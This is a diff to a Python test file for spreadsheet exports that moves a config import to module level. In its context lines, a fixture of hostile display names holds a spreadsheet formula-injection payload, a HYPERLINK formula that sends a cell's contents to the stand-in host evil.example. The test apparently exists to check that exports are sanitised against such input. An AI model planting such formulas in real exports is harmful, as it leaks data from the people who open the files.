@@ -18,6 +18,7 @@ from openpyxl import load_workbook
 from consumers.exports import export_course, export_session, export_student
 from consumers.sessions import open_session
 from tests import dashboard_kit as kit
+from infra.foundation.config import EXAMPLE_CONFIG, config_from_dict, load_config
 
 HOSTILE = {  # person id -> display name
     "macron": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -71,7 +72,6 @@ async def _prepare(database_url: str) -> int:
 
 @pytest.fixture(scope="module")
 def served(stack):
-    from infra.foundation.config import EXAMPLE_CONFIG, config_from_dict, load_config
 
     raw = load_config(EXAMPLE_CONFIG, environ={}).model_dump(exclude={"source"})
     raw["dashboard"]["processor_metrics_urls"] = []
